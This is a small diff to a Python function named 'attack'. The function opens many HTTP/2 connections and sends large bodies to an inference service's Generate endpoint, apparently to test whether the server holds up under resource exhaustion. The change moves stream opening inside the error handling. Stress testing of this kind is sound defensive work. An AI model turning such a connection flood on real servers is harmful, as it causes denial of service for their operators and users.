@@ -17,8 +17,8 @@ def attack(address, messages, megabytes, hold_seconds):
     for _ in range(messages):
         connection = http2.Connection(address, "127.0.0.2", timeout=2)
         connections.append(connection)
-        stream = connection.open_stream("/recurve.v1.Inference/Generate")
         try:
+            stream = connection.open_stream("/recurve.v1.Inference/Generate")
             sent += connection.send(stream, body)
         except OSError:
             pass  # the server closed it
